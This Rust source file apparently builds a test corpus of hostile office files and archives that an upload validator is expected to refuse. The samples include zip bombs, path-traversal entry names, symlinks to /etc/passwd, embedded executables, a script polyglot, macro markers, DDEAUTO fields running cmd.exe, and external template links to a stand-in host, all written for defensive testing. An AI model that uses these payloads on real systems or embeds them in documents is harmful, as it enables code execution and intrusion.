//! Archives and documents of offices: bombs, names that lead away, macros, programs, and parts from elsewhere.

use std::io::{Cursor, Write};

use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::{Dice, File, Must, OFFICES, eicar, office, zip};

/// How a document is made where parts of it may lie.
fn folder(ending: &str) -> &'static str {
    match ending {
        "docx" => "word",
        "xlsx" => "xl",
        "pptx" => "ppt",
        _ => "Pictures",
    }
}

/// Files of this kind.
pub(super) fn all(dice: &mut Dice) -> Vec<File> {
    let mut files = Vec::new();
    let refused =
        |what, ending: &str, bytes: Vec<u8>| File::new(what, format!("surat.{ending}"), bytes, Must::Refused);
    let zeros = zip(&[("a.bin", vec![0_u8; 4 << 20])]);
    for ending in OFFICES {
        let place = folder(ending);
        for _ in 0..5 {
            files.push(refused("bomb", ending, bomb(ending, place, dice)));
        }
        for _ in 0..14 {
            let inner =
                [zeros.clone(), zip(&[("b.zip", &zeros)]), zip(&[("c.zip", zip(&[("b.zip", &zeros)]))])];
            let inner = dice.one(&inner);
            let kind = dice.one(&[
                "media/a.bin",
                "media/gambar.png",
                "embeddings/a.xlsx",
                "a.zip",
                "embeddings/x.docx",
            ]);
            files.push(refused(
                "nested bomb",
                ending,
                office(ending, &[(&format!("{place}/{kind}"), &inner)]),
            ));
        }
        for head in [
            b"Rar!\x1a\x07\x01\0".as_slice(),
            b"7z\xbc\xaf\x27\x1c",
            b"\x1f\x8b\x08\0",
            b"\xfd7zXZ\0",
            b"BZh91AY",
            b"MSCF\0\0\0\0",
        ] {
            let content = [head, &dice.bytes(200)].concat();
            files.push(refused(
                "other archive",
                ending,
                office(ending, &[(&format!("{place}/media/{}.png", dice.word()), &content)]),
            ));
        }
        for _ in 0..30 {
            let name = slip(dice);
            files.push(refused("name that leads away", ending, office(ending, &[(&name, b"x")])));
        }
        for link in ["/etc/passwd", "../../x", "word/document.xml"] {
            let mut writer = ZipWriter::new_append(Cursor::new(office(ending, &[]))).unwrap();
            writer
                .add_symlink(format!("{place}/{}", dice.word()), link, SimpleFileOptions::default())
                .unwrap();
            files.push(refused("link", ending, writer.finish().unwrap().into_inner()));
        }
        for head in
            [b"MZ\x90\0".as_slice(), b"\x7fELF\x02", b"#!/bin/sh\n", b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xbe"]
        {
            for name in ["media/a.png", "embeddings/a.bin", "x"] {
                let content = [head, &dice.bytes(100)].concat();
                files.push(refused(
                    "program",
                    ending,
                    office(ending, &[(&format!("{place}/{name}"), &content)]),
                ));
            }
        }
        for _ in 0..8 {
            let room = dice.below(70_000);
            let content = [vec![b'X'; room], eicar(), dice.bytes(20)].concat();
            let name = format!("{place}/media/{}.{}", dice.word(), dice.one(&["txt", "png", "bin"]));
            files.push(refused("signature packed", ending, office(ending, &[(&name, &content)])));
        }
        files.push(refused("too many entries", ending, crowd(ending)));
        for _ in 0..4 {
            files.push(refused("entries over each other", ending, over(ending, dice)));
        }
        for _ in 0..12 {
            let whole = office(ending, &[("x.txt", &dice.bytes(300))]);
            let cut = 30 + dice.below(whole.len() - 60);
            files.push(refused("cut off", ending, whole[..cut].to_vec()));
        }
        for before in [b"PK\x03\x04".as_slice(), b"PK\x03\x04<script>alert(1)</script>", b"PK\x03\x04MZ"] {
            files.push(refused(
                "two in one",
                ending,
                [before, &dice.bytes(30), &office(ending, &[])].concat(),
            ));
        }
        files.extend(macros(ending, dice).into_iter().map(|bytes| refused("macros", ending, bytes)));
        files.extend(
            remote(ending, dice).into_iter().map(|bytes| refused("parts from elsewhere", ending, bytes)),
        );
    }
    files
}

/// An entry that unpacks to far more, with a size that may lie.
fn bomb(ending: &str, place: &str, dice: &mut Dice) -> Vec<u8> {
    let size = (2 << 20) + dice.below(4 << 20);
    let content = vec![dice.one(&[0_u8, b' ', b'<', 255]); size];
    let mut bytes = office(ending, &[(&format!("{place}/{}.xml", dice.word()), &content)]);
    if dice.below(2) == 0 {
        let claim = u32::try_from(size).unwrap().to_le_bytes();
        while let Some(at) = bytes.windows(4).position(|some| some == claim) {
            bytes[at..at + 4].copy_from_slice(&77_u32.to_le_bytes());
        }
    }
    bytes
}

fn slip(dice: &mut Dice) -> String {
    let word = dice.word();
    match dice.below(9) {
        0 => format!("{}{word}", "../".repeat(1 + dice.below(8))),
        1 => format!("/{word}/{word}"),
        2 => format!("..\\..\\{word}"),
        3 => format!("C:/{word}.exe"),
        4 => format!("word/{word}/../../../{word}"),
        5 => format!("\\\\{word}\\share\\x"),
        6 => format!("word/{}", word.repeat(80)),
        7 => format!("word/{word}:stream"),
        _ => format!("word/{word}\0.png"),
    }
}

fn crowd(ending: &str) -> Vec<u8> {
    let mut writer = ZipWriter::new_append(Cursor::new(office(ending, &[]))).unwrap();
    let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for number in 0..5200 {
        writer.start_file(format!("x/{number}"), options).unwrap();
        writer.write_all(b"x").unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// Several entries of the list point to the same content.
fn over(ending: &str, dice: &mut Dice) -> Vec<u8> {
    let content = dice.bytes(4000);
    let mut bytes = office(ending, &[("x/a", &content), ("x/b", &content), ("x/c", &content)]);
    let starts: Vec<usize> =
        bytes.windows(4).enumerate().filter(|(_, some)| *some == b"PK\x01\x02").map(|(at, _)| at).collect();
    let last = bytes[starts[2] + 42..starts[2] + 46].to_vec();
    for start in &starts[3..] {
        bytes[start + 42..start + 46].copy_from_slice(&last);
    }
    bytes
}

fn macros(ending: &str, dice: &mut Dice) -> Vec<Vec<u8>> {
    let place = folder(ending);
    let mut made = Vec::new();
    let ole = |name: &str| {
        let wide: Vec<u8> = name.bytes().flat_map(|letter| [letter, 0]).collect();
        [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".as_slice(), &[0; 600], &wide, &[0; 64]].concat()
    };
    for _ in 0..4 {
        made.push(office(ending, &[(&format!("{place}/{}", dice.cased("vbaproject.bin")), b"x")]));
        made.push(office(ending, &[(&format!("{place}/{}", dice.cased("vbadata.xml")), b"x")]));
        made.push(office(ending, &[(&format!("{}/Standard/Module1.xml", dice.cased("basic")), b"<x/>")]));
        made.push(office(ending, &[(&format!("{}/python/x.py", dice.cased("scripts")), b"x")]));
        made.push(office(
            ending,
            &[(&format!("{place}/activeX/activeX{}.xml", dice.below(9)), b"<ax:ocx/>")],
        ));
        for name in ["_VBA_PROJECT", "\u{1}Ole10Native"] {
            made.push(office(ending, &[(&format!("{place}/embeddings/{}.bin", dice.word()), &ole(name))]));
        }
    }
    if ending.starts_with('o') {
        let event = b"<script:event-listener xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic\"/>";
        made.push(office(ending, &[("content.xml", event)]));
        made.push(office(
            ending,
            &[("content.xml", b"<text:dde-connection office:dde-application=\"cmd\"/>")],
        ));
    } else {
        for kind in ["macroEnabled", "MACROENABLED", "vbaProject"] {
            let types = format!(
                "<Types><Override ContentType=\"application/vnd.ms-word.document.{kind}.main+xml\"/></Types>"
            );
            made.push(office(ending, &[("[Content_Types].xml", types.as_bytes())]));
            let wide: Vec<u8> =
                "\u{feff}".encode_utf16().chain(types.encode_utf16()).flat_map(u16::to_le_bytes).collect();
            made.push(office(ending, &[("[Content_Types].xml", &wide)]));
        }
    }
    match ending {
        "docx" => {
            for field in ["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "DDE cmd x"] {
                let text = format!("<w:instrText xml:space=\"preserve\"> {field} </w:instrText>");
                made.push(office(ending, &[("word/document.xml", text.as_bytes())]));
            }
            made.push(office(
                ending,
                &[("word/document.xml", b"<w:fldSimple w:instr=\" DDEAUTO cmd x \"/>")],
            ));
        }
        "xlsx" => {
            made.push(office(ending, &[("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>")]));
            made.push(office(
                ending,
                &[(
                    "xl/externalLinks/externalLink1.xml",
                    b"<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
                )],
            ));
        }
        _ => {}
    }
    made
}

fn remote(ending: &str, dice: &mut Dice) -> Vec<Vec<u8>> {
    if ending.starts_with('o') {
        return Vec::new();
    }
    let mut made = Vec::new();
    let name = format!("{}/_rels/{}.xml.rels", folder(ending), dice.word());
    for kind in ["attachedTemplate", "oleObject", "frame", "subDocument"] {
        for mode in [
            "TargetMode=\"External\"",
            "TargetMode='External'",
            "TargetMode = \"External\"",
            "TargetMode=\"&#69;xternal\"",
        ] {
            let quote = if mode.contains('\'') { '\'' } else { '"' };
            let text = format!(
                "<Relationships><Relationship Id=\"a\" Type={quote}http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}{quote} Target=\"http://jahat.example/{}\" {mode}/></Relationships>",
                dice.word()
            );
            made.push(office(ending, &[(&name, text.as_bytes())]));
            let wide: Vec<u8> =
                "\u{feff}".encode_utf16().chain(text.encode_utf16()).flat_map(u16::to_be_bytes).collect();
            made.push(office(ending, &[(&name, &wide)]));
        }
    }
    made
}
